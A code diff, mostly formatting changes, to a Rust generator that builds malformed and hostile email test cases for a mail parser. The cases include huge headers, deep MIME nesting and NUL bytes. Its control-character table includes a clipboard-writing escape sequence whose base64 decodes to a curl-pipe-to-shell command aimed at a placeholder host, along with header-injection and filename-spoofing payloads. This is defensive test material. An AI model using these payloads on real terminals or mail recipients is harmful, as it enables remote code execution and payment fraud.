@@ -20,6 +20,9 @@
 //! file names, quoted local parts, empty input, header-only messages and huge one-line
 //! bodies. Each comes in several sizes and variants.
 
+// Shared by a test and a bench, which each use only part of it.
+#![allow(dead_code)]
+
 use std::fmt::Write as _;
 
 /// One mebibyte. The project's "25 MB" message-size limit is 25 MiB.
@@ -124,8 +127,8 @@ impl Rng {
 }
 
 const WORDS: &[&str] = &[
-    "printer", "invoice", "cannot", "login", "since", "monday", "please", "help", "urgent",
-    "the", "server", "is", "down", "again", "refund", "order", "broken", "thanks",
+    "printer", "invoice", "cannot", "login", "since", "monday", "please", "help", "urgent", "the",
+    "server", "is", "down", "again", "refund", "order", "broken", "thanks",
 ];
 
 /// What a builder gets: the case's Message-ID (unique in the set) and its own RNG.
@@ -449,7 +452,11 @@ fn mime_deep(set: &mut Set) {
                 if matches!(kind, Kind::Rfc822) && !closed {
                     continue;
                 }
-                let per_level = if matches!(kind, Kind::Rfc822) { 110 } else { 75 };
+                let per_level = if matches!(kind, Kind::Rfc822) {
+                    110
+                } else {
+                    75
+                };
                 set.add(
                     "mime-deep",
                     format!(
@@ -507,7 +514,9 @@ fn mime_deep(set: &mut Set) {
 /// Flat multiparts with 10 to 250,000 parts (the default part limit is 1,000), and parts
 /// spread over many sibling multiparts.
 fn mime_parts(set: &mut Set) {
-    for count in [10usize, 100, 999, 1000, 1001, 2000, 10_000, 100_000, 250_000] {
+    for count in [
+        10usize, 100, 999, 1000, 1001, 2000, 10_000, 100_000, 250_000,
+    ] {
         for (style, per) in [("bare", 14), ("typed", 95), ("empty", 14)] {
             if style == "typed" && count > 100_000 {
                 continue;
@@ -558,7 +567,9 @@ fn mime_parts(set: &mut Set) {
                 for g in 0..groups {
                     push(
                         &mut m,
-                        format!("--outer\r\nContent-Type: multipart/mixed; boundary=\"g{g}\"\r\n\r\n"),
+                        format!(
+                            "--outer\r\nContent-Type: multipart/mixed; boundary=\"g{g}\"\r\n\r\n"
+                        ),
                     );
                     for _ in 0..per_group {
                         push(&mut m, format!("--g{g}\r\n\r\nx\r\n"));
@@ -603,7 +614,11 @@ fn mime_attachments(set: &mut Set) {
                         } else {
                             cx.rng.bytes(size)
                         };
-                        let name = format!("{}-{i}.{}", cx.rng.word(1, 12), cx.rng.pick(&["pdf", "png", "bin", "txt", "zip", "eml"]));
+                        let name = format!(
+                            "{}-{i}.{}",
+                            cx.rng.word(1, 12),
+                            cx.rng.pick(&["pdf", "png", "bin", "txt", "zip", "eml"])
+                        );
                         parts.push(attachment_part(&name, ctype, encoding, &content));
                     }
                     multipart(&cx.id, &format!("{count} attachments"), &parts, true)
@@ -694,7 +709,12 @@ fn attachment_size(set: &mut Set) {
                 let mut parts = vec![text_part("Many big ones.\r\n")];
                 for i in 0..count {
                     let content = cx.rng.bytes(each);
-                    parts.push(attachment_part(&format!("part{i}.bin"), "application/octet-stream", "base64", &content));
+                    parts.push(attachment_part(
+                        &format!("part{i}.bin"),
+                        "application/octet-stream",
+                        "base64",
+                        &content,
+                    ));
                 }
                 multipart(&cx.id, "many big attachments", &parts, true)
             },
@@ -713,7 +733,8 @@ fn attachment_size(set: &mut Set) {
                 b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n",
                 b"",
             );
-            let line = b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAx\r\n";
+            let line =
+                b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAx\r\n";
             while m.len() + line.len() <= size {
                 push(&mut m, line);
             }
@@ -743,13 +764,21 @@ fn header_long_line(set: &mut Set) {
         for &field in FIELDS {
             for folded in [false, true] {
                 if size == 4 * MIB
-                    && (folded || !matches!(field, "Subject" | "X-Long" | "To address list" | "References token"))
+                    && (folded
+                        || !matches!(
+                            field,
+                            "Subject" | "X-Long" | "To address list" | "References token"
+                        ))
                 {
                     continue;
                 }
                 set.add(
                     "header-long-line",
-                    format!("{field}, {} {}", human(size), if folded { "folded" } else { "one line" }),
+                    format!(
+                        "{field}, {} {}",
+                        human(size),
+                        if folded { "folded" } else { "one line" }
+                    ),
                     size + 600,
                     move |cx| long_header(cx, field, size, folded),
                 );
@@ -775,7 +804,13 @@ fn long_header(cx: &mut Ctx, field: &str, size: usize, folded: bool) -> Vec<u8> 
     let (mut m, body): (Vec<u8>, &[u8]) = match field {
         "Subject" => {
             let mut m = Vec::new();
-            push(&mut m, format!("From: a@hostile.example\r\nTo: support@example.com\r\nMessage-ID: <{}>\r\nSubject: ", cx.id));
+            push(
+                &mut m,
+                format!(
+                    "From: a@hostile.example\r\nTo: support@example.com\r\nMessage-ID: <{}>\r\nSubject: ",
+                    cx.id
+                ),
+            );
             push(&mut m, fold(words(cx, size)));
             push(&mut m, "\r\n");
             (m, b"body\r\n")
@@ -783,10 +818,17 @@ fn long_header(cx: &mut Ctx, field: &str, size: usize, folded: bool) -> Vec<u8> 
         "Subject (encoded words)" => {
             let mut v = Vec::new();
             while v.len() < size {
-                push(&mut v, encoded_word("utf-8", cx.rng.chance(50), "héllo wörld ".as_bytes()));
+                push(
+                    &mut v,
+                    encoded_word("utf-8", cx.rng.chance(50), "héllo wörld ".as_bytes()),
+                );
                 v.push(b' ');
             }
-            let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{}>\r\nSubject: ", cx.id).into_bytes();
+            let mut m = format!(
+                "From: a@hostile.example\r\nMessage-ID: <{}>\r\nSubject: ",
+                cx.id
+            )
+            .into_bytes();
             push(&mut m, fold(v));
             push(&mut m, "\r\n");
             (m, b"body\r\n")
@@ -799,7 +841,8 @@ fn long_header(cx: &mut Ctx, field: &str, size: usize, folded: bool) -> Vec<u8> 
             (m, b"body\r\n")
         }
         "From display name" => {
-            let mut m = format!("Message-ID: <{}>\r\nSubject: long name\r\nFrom: \"", cx.id).into_bytes();
+            let mut m =
+                format!("Message-ID: <{}>\r\nSubject: long name\r\nFrom: \"", cx.id).into_bytes();
             push(&mut m, fold(words(cx, size)));
             push(&mut m, "\" <long@hostile.example>\r\n");
             (m, b"body\r\n")
@@ -811,7 +854,11 @@ fn long_header(cx: &mut Ctx, field: &str, size: usize, folded: bool) -> Vec<u8> 
                 push(&mut v, format!("r{i}@hostile.example, "));
                 i += 1;
             }
-            let mut m = format!("From: a@hostile.example\r\nSubject: many recipients\r\nMessage-ID: <{}>\r\nTo: ", cx.id).into_bytes();
+            let mut m = format!(
+                "From: a@hostile.example\r\nSubject: many recipients\r\nMessage-ID: <{}>\r\nTo: ",
+                cx.id
+            )
+            .into_bytes();
             push(&mut m, fold(v));
             push(&mut m, "support@example.com\r\n");
             (m, b"body\r\n")
@@ -855,7 +902,14 @@ fn long_header(cx: &mut Ctx, field: &str, size: usize, folded: bool) -> Vec<u8> 
 /// malformed.
 fn references_many(set: &mut Set) {
     for count in [100usize, 1000, 10_000, 50_000, 200_000] {
-        for layout in ["one line", "folded", "in In-Reply-To", "both fields", "all the same id", "no angle brackets"] {
+        for layout in [
+            "one line",
+            "folded",
+            "in In-Reply-To",
+            "both fields",
+            "all the same id",
+            "no angle brackets",
+        ] {
             if count == 200_000 && !matches!(layout, "one line" | "folded") {
                 continue;
             }
@@ -868,7 +922,9 @@ fn references_many(set: &mut Set) {
                     for i in 0..count {
                         let entry = match layout {
                             "all the same id" => "<same@elsewhere.example>".to_string(),
-                            "no angle brackets" => format!("ref{i}.{}@elsewhere.example", cx.rng.word(4, 8)),
+                            "no angle brackets" => {
+                                format!("ref{i}.{}@elsewhere.example", cx.rng.word(4, 8))
+                            }
                             _ => format!("<ref{i}.{}@elsewhere.example>", cx.rng.word(4, 8)),
                         };
                         push(&mut list, entry);
@@ -904,9 +960,17 @@ fn references_many(set: &mut Set) {
 /// `Received` chains, repeated `Subject` fields.
 fn header_fields_many(set: &mut Set) {
     for (style, per, counts) in [
-        ("tiny `X-a: b`", 8usize, &[1000usize, 10_000, 100_000, 1_000_000, 3_100_000][..]),
+        (
+            "tiny `X-a: b`",
+            8usize,
+            &[1000usize, 10_000, 100_000, 1_000_000, 3_100_000][..],
+        ),
         ("tiny, LF endings", 7, &[100_000, 3_100_000][..]),
-        ("distinct names", 14, &[1000, 10_000, 100_000, 1_000_000][..]),
+        (
+            "distinct names",
+            14,
+            &[1000, 10_000, 100_000, 1_000_000][..],
+        ),
         ("Received chain", 80, &[1000, 10_000, 100_000][..]),
         ("repeated Subject", 16, &[1000, 10_000, 100_000][..]),
         ("repeated Message-ID", 48, &[1000, 10_000][..]),
@@ -1148,7 +1212,10 @@ fn truncated(cx: &mut Ctx, kind: usize, size: usize) -> Vec<u8> {
         }
         2 => {
             let mut b = base64(&content, true);
-            while b.last().is_some_and(|&c| c == b'=' || c == b'\r' || c == b'\n') {
+            while b
+                .last()
+                .is_some_and(|&c| c == b'=' || c == b'\r' || c == b'\n')
+            {
                 b.pop();
             }
             b.truncate(b.len() - b.len() % 4 + 1);
@@ -1197,11 +1264,22 @@ fn truncated(cx: &mut Ctx, kind: usize, size: usize) -> Vec<u8> {
             );
         }
         8 => {
-            let enc = cx.rng.pick(&["x-uue", "base32", "8bit, base64", "base64; x=y", "bïnary", "base6"]);
+            let enc = cx.rng.pick(&[
+                "x-uue",
+                "base32",
+                "8bit, base64",
+                "base64; x=y",
+                "bïnary",
+                "base6",
+            ]);
             att(enc, &base64(&content, true), true)
         }
         9 => {
-            let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{}>\r\nSubject: ", cx.id).into_bytes();
+            let mut m = format!(
+                "From: a@hostile.example\r\nMessage-ID: <{}>\r\nSubject: ",
+                cx.id
+            )
+            .into_bytes();
             let mut w = encoded_word("utf-8", cx.rng.chance(50), text.as_bytes());
             let cut = cx.rng.range(3, w.len() - 1);
             w.truncate(cut);
@@ -1220,7 +1298,12 @@ fn truncated(cx: &mut Ctx, kind: usize, size: usize) -> Vec<u8> {
             (p, false)
         }
     };
-    let mut m = multipart(&cx.id, "cut encodings", &[text_part("Attached."), part], closed);
+    let mut m = multipart(
+        &cx.id,
+        "cut encodings",
+        &[text_part("Attached."), part],
+        closed,
+    );
     if !closed {
         // Cut the trailing CRLF that `multipart` adds after a part, too.
         m.truncate(m.len() - 2);
@@ -1249,16 +1332,24 @@ fn nul_bytes(set: &mut Set) {
     ];
     for (p, &place) in PLACES.iter().enumerate() {
         for i in 0..6 {
-            set.add("nul-bytes", format!("NUL in {place} (#{i})"), 4000, move |cx| {
-                let nuls = vec![0u8; [1, 2, 17, 100, 1, 1000][i]];
-                nul_in(cx, p, &nuls)
-            });
+            set.add(
+                "nul-bytes",
+                format!("NUL in {place} (#{i})"),
+                4000,
+                move |cx| {
+                    let nuls = vec![0u8; [1, 2, 17, 100, 1, 1000][i]];
+                    nul_in(cx, p, &nuls)
+                },
+            );
         }
     }
     for size in [64 * 1024usize, MIB] {
-        set.add("nul-bytes", format!("body of {} NULs", human(size)), size + 400, move |cx| {
-            message(&cx.id, "nothing but NUL", b"", &vec![0u8; size])
-        });
+        set.add(
+            "nul-bytes",
+            format!("body of {} NULs", human(size)),
+            size + 400,
+            move |cx| message(&cx.id, "nothing but NUL", b"", &vec![0u8; size]),
+        );
     }
 }
 
@@ -1270,25 +1361,44 @@ fn nul_in(cx: &mut Ctx, place: usize, nuls: &[u8]) -> Vec<u8> {
     match place {
         0 => {
             let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\n").into_bytes();
-            push(&mut m, hdr(b"Subject", &[b"Help ".as_slice(), nuls, b" me"].concat()));
+            push(
+                &mut m,
+                hdr(b"Subject", &[b"Help ".as_slice(), nuls, b" me"].concat()),
+            );
             push(&mut m, "\r\nbody\r\n");
             m
         }
         1 => {
             let mut m = format!("Message-ID: <{id}>\r\nSubject: nul name\r\n").into_bytes();
-            push(&mut m, hdr(b"From", &[b"\"Ann".as_slice(), nuls, b"Root\" <ann@hostile.example>"].concat()));
+            push(
+                &mut m,
+                hdr(
+                    b"From",
+                    &[b"\"Ann".as_slice(), nuls, b"Root\" <ann@hostile.example>"].concat(),
+                ),
+            );
             push(&mut m, "\r\nbody\r\n");
             m
         }
         2 => {
             let mut m = format!("Message-ID: <{id}>\r\nSubject: nul address\r\n").into_bytes();
-            push(&mut m, hdr(b"From", &[b"ann".as_slice(), nuls, b"@hostile.example"].concat()));
+            push(
+                &mut m,
+                hdr(
+                    b"From",
+                    &[b"ann".as_slice(), nuls, b"@hostile.example"].concat(),
+                ),
+            );
             push(&mut m, "\r\nbody\r\n");
             m
         }
-        3 => base(&hdr(&[b"X-Bad".as_slice(), nuls, b"Name"].concat(), b"v"), b"body\r\n"),
+        3 => base(
+            &hdr(&[b"X-Bad".as_slice(), nuls, b"Name"].concat(), b"v"),
+            b"body\r\n",
+        ),
         4 => {
-            let mut m = format!("From: a@hostile.example\r\nSubject: nul id\r\nMessage-ID: <{id}>").into_bytes();
+            let mut m = format!("From: a@hostile.example\r\nSubject: nul id\r\nMessage-ID: <{id}>")
+                .into_bytes();
             push(&mut m, nuls);
             push(&mut m, "\r\n\r\nbody\r\n");
             m
@@ -1297,7 +1407,10 @@ fn nul_in(cx: &mut Ctx, place: usize, nuls: &[u8]) -> Vec<u8> {
         6 => base(b"", &[nuls, text.as_bytes()].concat()),
         7 => {
             let half = text.len() / 2;
-            base(b"", &[text[..half].as_bytes(), nuls, text[half..].as_bytes()].concat())
+            base(
+                b"",
+                &[text[..half].as_bytes(), nuls, text[half..].as_bytes()].concat(),
+            )
         }
         8 => {
             let name = [b"invoice".as_slice(), nuls, b".pdf.exe"].concat();
@@ -1305,7 +1418,10 @@ fn nul_in(cx: &mut Ctx, place: usize, nuls: &[u8]) -> Vec<u8> {
             push(&mut p, &name);
             push(&mut p, "\"\r\nContent-Disposition: attachment; filename=\"");
             push(&mut p, &name);
-            push(&mut p, "\"\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n");
+            push(
+                &mut p,
+                "\"\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n",
+            );
             multipart(&id, "nul file name", &[text_part(&text), p], true)
         }
         9 => {
@@ -1338,7 +1454,12 @@ fn bare_cr(set: &mut Set) {
         "CR header, CRLF body",
         "CRLF header, CR body",
     ];
-    const SHAPES: &[&str] = &["plain", "reply with quote", "multipart with attachment", "html"];
+    const SHAPES: &[&str] = &[
+        "plain",
+        "reply with quote",
+        "multipart with attachment",
+        "html",
+    ];
     for (e, &ending) in ENDINGS.iter().enumerate() {
         for (s, &shape) in SHAPES.iter().enumerate() {
             for i in 0..3 {
@@ -1349,7 +1470,11 @@ fn bare_cr(set: &mut Set) {
                     Some(shaped_expect(s)),
                     move |cx| {
                         let m = shaped(cx, s);
-                        let header_end = m.windows(4).position(|w| w == b"\r\n\r\n").unwrap_or(m.len()) + 2;
+                        let header_end = m
+                            .windows(4)
+                            .position(|w| w == b"\r\n\r\n")
+                            .unwrap_or(m.len())
+                            + 2;
                         let (h, b) = m.split_at(header_end);
                         match e {
                             0 => with_eol(&m, b"\r"),
@@ -1377,7 +1502,12 @@ fn bare_cr(set: &mut Set) {
 /// What [`shaped`] writes as subject and sender.
 fn shaped_expect(shape: usize) -> Expect {
     Expect {
-        subject: ["Printer on fire", "Re: Printer on fire", "With a file", "HTML only"][shape],
+        subject: [
+            "Printer on fire",
+            "Re: Printer on fire",
+            "With a file",
+            "HTML only",
+        ][shape],
         from: "sender@hostile.example",
     }
 }
@@ -1433,37 +1563,50 @@ fn header_8bit(set: &mut Set) {
     ];
     for &(what, bytes) in BYTES {
         for (p, &place) in PLACES.iter().enumerate() {
-            set.add("header-8bit", format!("{what} in {place}"), 3000, move |cx| {
-                raw_8bit(cx, p, bytes)
-            });
+            set.add(
+                "header-8bit",
+                format!("{what} in {place}"),
+                3000,
+                move |cx| raw_8bit(cx, p, bytes),
+            );
         }
     }
     for i in 0..14 {
-        set.add("header-8bit", format!("random high bytes everywhere #{i}"), 4000, |cx| {
-            let mut m = Vec::new();
-            for name in ["From", "To", "Subject", "Reply-To", "X-Mailer"] {
-                push(&mut m, name);
-                push(&mut m, ": ");
-                let n = cx.rng.range(1, 80);
-                let mut v = cx.rng.bytes(n);
-                v.retain(|&b| b >= 0x80 || (b' '..=b'~').contains(&b));
-                push(&mut m, v);
-                push(&mut m, "\r\n");
-            }
-            push(&mut m, format!("Message-ID: <{}>\r\n\r\n", cx.id));
-            push(&mut m, cx.rng.bytes(500));
-            m
-        });
+        set.add(
+            "header-8bit",
+            format!("random high bytes everywhere #{i}"),
+            4000,
+            |cx| {
+                let mut m = Vec::new();
+                for name in ["From", "To", "Subject", "Reply-To", "X-Mailer"] {
+                    push(&mut m, name);
+                    push(&mut m, ": ");
+                    let n = cx.rng.range(1, 80);
+                    let mut v = cx.rng.bytes(n);
+                    v.retain(|&b| b >= 0x80 || (b' '..=b'~').contains(&b));
+                    push(&mut m, v);
+                    push(&mut m, "\r\n");
+                }
+                push(&mut m, format!("Message-ID: <{}>\r\n\r\n", cx.id));
+                push(&mut m, cx.rng.bytes(500));
+                m
+            },
+        );
     }
 }
 
 fn raw_8bit(cx: &mut Ctx, place: usize, bytes: &[u8]) -> Vec<u8> {
     let id = cx.id.clone();
-    let line = |name: &str, pre: &[u8], post: &[u8]| [name.as_bytes(), b": ", pre, bytes, post, b"\r\n"].concat();
+    let line = |name: &str, pre: &[u8], post: &[u8]| {
+        [name.as_bytes(), b": ", pre, bytes, post, b"\r\n"].concat()
+    };
     let mut m = Vec::new();
     match place {
         0 => {
-            push(&mut m, format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\n"));
+            push(
+                &mut m,
+                format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\n"),
+            );
             push(&mut m, line("Subject", b"", b""));
         }
         1 => {
@@ -1471,11 +1614,17 @@ fn raw_8bit(cx: &mut Ctx, place: usize, bytes: &[u8]) -> Vec<u8> {
             push(&mut m, line("From", b"", b" <named@hostile.example>"));
         }
         2 => {
-            push(&mut m, format!("Subject: local part\r\nMessage-ID: <{id}>\r\n"));
+            push(
+                &mut m,
+                format!("Subject: local part\r\nMessage-ID: <{id}>\r\n"),
+            );
             push(&mut m, line("From", b"<", b"@hostile.example>"));
         }
         3 => {
-            push(&mut m, format!("From: a@hostile.example\r\nSubject: to name\r\nMessage-ID: <{id}>\r\n"));
+            push(
+                &mut m,
+                format!("From: a@hostile.example\r\nSubject: to name\r\nMessage-ID: <{id}>\r\n"),
+            );
             push(&mut m, line("To", b"", b" <support@example.com>"));
         }
         4 => {
@@ -1484,11 +1633,19 @@ fn raw_8bit(cx: &mut Ctx, place: usize, bytes: &[u8]) -> Vec<u8> {
             push(&mut p, &name);
             push(&mut p, "\"\r\nContent-Disposition: attachment; filename=\"");
             push(&mut p, &name);
-            push(&mut p, "\"\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n");
+            push(
+                &mut p,
+                "\"\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n",
+            );
             return multipart(&id, "8-bit file name", &[text_part("see file"), p], true);
         }
         5 => {
-            push(&mut m, format!("From: a@hostile.example\r\nSubject: 8-bit body\r\nMessage-ID: <{id}>\r\n\r\n"));
+            push(
+                &mut m,
+                format!(
+                    "From: a@hostile.example\r\nSubject: 8-bit body\r\nMessage-ID: <{id}>\r\n\r\n"
+                ),
+            );
             for _ in 0..20 {
                 push(&mut m, bytes);
                 push(&mut m, "\r\n");
@@ -1496,7 +1653,12 @@ fn raw_8bit(cx: &mut Ctx, place: usize, bytes: &[u8]) -> Vec<u8> {
             return m;
         }
         6 => {
-            push(&mut m, format!("From: a@hostile.example\r\nSubject: 8-bit field name\r\nMessage-ID: <{id}>\r\n"));
+            push(
+                &mut m,
+                format!(
+                    "From: a@hostile.example\r\nSubject: 8-bit field name\r\nMessage-ID: <{id}>\r\n"
+                ),
+            );
             push(&mut m, [b"X-".as_slice(), bytes, b": v\r\n"].concat());
         }
         _ => {
@@ -1523,17 +1685,26 @@ fn leading_junk(set: &mut Set) {
         ("space line", b"   \r\n"),
         ("tab", b"\t"),
         ("NUL", b"\x00"),
-        ("mbox From line + BOM", b"From sender@hostile.example Thu Nov  5 10:00:00 2026\r\n\xef\xbb\xbf"),
+        (
+            "mbox From line + BOM",
+            b"From sender@hostile.example Thu Nov  5 10:00:00 2026\r\n\xef\xbb\xbf",
+        ),
         ("UTF-16 BOM", b"\xff\xfe"),
         ("CR", b"\r"),
-        ("CRLF before an mbox From line", b"\r\nFrom sender@hostile.example Thu Nov  5 10:00:00 2026\r\n"),
+        (
+            "CRLF before an mbox From line",
+            b"\r\nFrom sender@hostile.example Thu Nov  5 10:00:00 2026\r\n",
+        ),
     ];
     for &(what, prefix) in PREFIXES {
         for (s, shape) in ["plain", "multipart"].iter().enumerate() {
             for lf in [false, true] {
                 set.add_expecting(
                     "leading-junk",
-                    format!("{what} before a {shape} message{}", if lf { ", LF endings" } else { "" }),
+                    format!(
+                        "{what} before a {shape} message{}",
+                        if lf { ", LF endings" } else { "" }
+                    ),
                     3000,
                     Some(shaped_expect(s * 2)),
                     move |cx| {
@@ -1555,10 +1726,16 @@ fn control_chars(set: &mut Set) {
     const PAYLOADS: &[(&str, &str)] = &[
         ("ESC clear screen", "\x1b[2J\x1b[H"),
         ("OSC 0 window title", "\x1b]0;pwned\x07"),
-        ("OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
+        (
+            "OSC 52 clipboard write",
+            "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+        ),
         ("BEL", "\x07\x07\x07"),
         ("U+202E", "invoice\u{202e}fdp.exe"),
-        ("CR LF injection", "fine\r\nAttachment: payroll.xlsx\r\nPay to: IBAN XX00"),
+        (
+            "CR LF injection",
+            "fine\r\nAttachment: payroll.xlsx\r\nPay to: IBAN XX00",
+        ),
         ("backspace and DEL", "admin\x08\x08\x08\x08\x08\x7fuser"),
         ("C1 CSI", "\u{9b}31mred\u{9b}0m"),
         ("ESC colour", "\x1b[31;1mURGENT\x1b[0m"),
@@ -1580,9 +1757,12 @@ fn control_chars(set: &mut Set) {
     ];
     for &(what, payload) in PAYLOADS {
         for (p, &place) in PLACES.iter().enumerate() {
-            set.add("control-chars", format!("{what} in {place}"), 3000, move |cx| {
-                control_in(cx, p, payload.as_bytes())
-            });
+            set.add(
+                "control-chars",
+                format!("{what} in {place}"),
+                3000,
+                move |cx| control_in(cx, p, payload.as_bytes()),
+            );
         }
     }
 }
@@ -1592,30 +1772,54 @@ fn control_in(cx: &mut Ctx, place: usize, payload: &[u8]) -> Vec<u8> {
     let file = |name_params: &[u8]| {
         let mut p = b"Content-Type: application/pdf\r\nContent-Disposition: attachment; ".to_vec();
         push(&mut p, name_params);
-        push(&mut p, "\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n");
+        push(
+            &mut p,
+            "\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n",
+        );
         multipart(&id, "control file name", &[text_part("see file"), p], true)
     };
     match place {
         0 => {
-            let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\nSubject: Hello ").into_bytes();
+            let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\nSubject: Hello ")
+                .into_bytes();
             // A raw CR LF would end the field: raw payloads keep only what fits in a line.
-            push(&mut m, payload.iter().copied().filter(|&b| b != b'\r' && b != b'\n').collect::<Vec<u8>>());
+            push(
+                &mut m,
+                payload
+                    .iter()
+                    .copied()
+                    .filter(|&b| b != b'\r' && b != b'\n')
+                    .collect::<Vec<u8>>(),
+            );
             push(&mut m, "\r\n\r\nbody\r\n");
             m
         }
         1 | 2 => {
-            let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\nSubject: ").into_bytes();
+            let mut m =
+                format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\nSubject: ").into_bytes();
             push(&mut m, encoded_word("utf-8", place == 1, payload));
             push(&mut m, "\r\n\r\nbody\r\n");
             m
         }
         3 => {
-            let mut m = format!("Message-ID: <{id}>\r\nSubject: control name\r\nFrom: ").into_bytes();
+            let mut m =
+                format!("Message-ID: <{id}>\r\nSubject: control name\r\nFrom: ").into_bytes();
             push(&mut m, encoded_word("utf-8", true, payload));
             push(&mut m, " <ctl@hostile.example>\r\n\r\nbody\r\n");
             m
         }
-        4 => file(&[b"filename=\"".as_slice(), &payload.iter().copied().filter(|&b| b != b'\r' && b != b'\n' && b != b'"').collect::<Vec<u8>>(), b".pdf\""].concat()),
+        4 => file(
+            &[
+                b"filename=\"".as_slice(),
+                &payload
+                    .iter()
+                    .copied()
+                    .filter(|&b| b != b'\r' && b != b'\n' && b != b'"')
+                    .collect::<Vec<u8>>(),
+                b".pdf\"",
+            ]
+            .concat(),
+        ),
         5 => {
             let mut v = b"filename*=utf-8''".to_vec();
             for b in payload {
@@ -1623,7 +1827,14 @@ fn control_in(cx: &mut Ctx, place: usize, payload: &[u8]) -> Vec<u8> {
             }
             file(&v)
         }
-        6 => file(&[b"filename=\"".as_slice(), &encoded_word("utf-8", true, payload), b"\""].concat()),
+        6 => file(
+            &[
+                b"filename=\"".as_slice(),
+                &encoded_word("utf-8", true, payload),
+                b"\"",
+            ]
+            .concat(),
+        ),
         7 => message(
             &id,
             "control body",
@@ -1634,10 +1845,18 @@ fn control_in(cx: &mut Ctx, place: usize, payload: &[u8]) -> Vec<u8> {
             &id,
             "control html",
             b"Content-Type: text/html; charset=utf-8\r\n",
-            &[b"<html><body><p>".as_slice(), payload, b"</p></body></html>\r\n"].concat(),
+            &[
+                b"<html><body><p>".as_slice(),
+                payload,
+                b"</p></body></html>\r\n",
+            ]
+            .concat(),
         ),
         10 => {
-            let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\nSubject: control to\r\nTo: ").into_bytes();
+            let mut m = format!(
+                "From: a@hostile.example\r\nMessage-ID: <{id}>\r\nSubject: control to\r\nTo: "
+            )
+            .into_bytes();
             push(&mut m, encoded_word("utf-8", true, payload));
             push(&mut m, " <support@example.com>\r\n\r\nbody\r\n");
             m
@@ -1645,12 +1864,27 @@ fn control_in(cx: &mut Ctx, place: usize, payload: &[u8]) -> Vec<u8> {
         11 => {
             let mut p = b"Content-Type: application/pdf; name=\"".to_vec();
             push(&mut p, encoded_word("utf-8", false, payload));
-            push(&mut p, ".pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n");
-            multipart(&id, "control name parameter", &[text_part("see file"), p], true)
+            push(
+                &mut p,
+                ".pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\r\n",
+            );
+            multipart(
+                &id,
+                "control name parameter",
+                &[text_part("see file"), p],
+                true,
+            )
         }
         _ => {
             let mut m = format!("From: a@hostile.example\r\nMessage-ID: <{id}>\r\nSubject: control reply-to\r\nReply-To: ").into_bytes();
-            push(&mut m, payload.iter().copied().filter(|&b| b != b'\r' && b != b'\n').collect::<Vec<u8>>());
+            push(
+                &mut m,
+                payload
+                    .iter()
+                    .copied()
+                    .filter(|&b| b != b'\r' && b != b'\n')
+                    .collect::<Vec<u8>>(),
+            );
             push(&mut m, " <reply@hostile.example>\r\n\r\nbody\r\n");
             m
         }
@@ -1718,9 +1952,15 @@ fn empty(set: &mut Set) {
         ("BOM alone", b"\xef\xbb\xbf"),
         ("BOM and CRLF", b"\xef\xbb\xbf\r\n"),
         ("CR alone", b"\r"),
-        ("From_ line alone", b"From nobody Thu Nov  5 10:00:00 2026\n"),
+        (
+            "From_ line alone",
+            b"From nobody Thu Nov  5 10:00:00 2026\n",
+        ),
         ("empty From and Subject", b"From:\r\nSubject:\r\n\r\n"),
-        ("empty fields, empty body, with date", b"From: \r\nTo: \r\nSubject: \r\nDate: \r\n\r\n"),
+        (
+            "empty fields, empty body, with date",
+            b"From: \r\nTo: \r\nSubject: \r\nDate: \r\n\r\n",
+        ),
     ];
     for &(what, bytes) in INPUTS {
         set.add("empty", what, bytes.len(), move |_| bytes.to_vec());
@@ -1785,8 +2025,16 @@ fn headers_only(set: &mut Set) {
                     }
                     6 => format!("Subject: only a subject {}\r\n", cx.id).into_bytes(),
                     7 => format!("Message-ID: <{}>\r\n", cx.id).into_bytes(),
-                    8 => format!("Received: from x by y for <{}>; Thu, 5 Nov 2026 10:00:00 +0000\r\n", cx.id).into_bytes(),
-                    9 => format!("Date: Thu, 5 Nov 2026 10:00:{:02} +0000\r\nX-Case: {}\r\n", i, cx.id).into_bytes(),
+                    8 => format!(
+                        "Received: from x by y for <{}>; Thu, 5 Nov 2026 10:00:00 +0000\r\n",
+                        cx.id
+                    )
+                    .into_bytes(),
+                    9 => format!(
+                        "Date: Thu, 5 Nov 2026 10:00:{:02} +0000\r\nX-Case: {}\r\n",
+                        i, cx.id
+                    )
+                    .into_bytes(),
                     10 => format!("From: {}\n", cx.id).into_bytes(),
                     _ => {
                         for k in 0..200 {
@@ -1841,24 +2089,58 @@ fn long_body(cx: &mut Ctx, kind: usize, size: usize) -> Vec<u8> {
         v
     };
     let (ctype, cte, body): (&str, &str, Vec<u8>) = match kind {
-        0 => ("text/plain", "8bit", cx.rng.text(size).replace('\n', " ").into_bytes()),
+        0 => (
+            "text/plain",
+            "8bit",
+            cx.rng.text(size).replace('\n', " ").into_bytes(),
+        ),
         1 => (
             "text/html",
             "8bit",
-            [b"<html><body><p>".as_slice(), cx.rng.text(size).replace('\n', " ").as_bytes(), b"</p></body></html>"].concat(),
+            [
+                b"<html><body><p>".as_slice(),
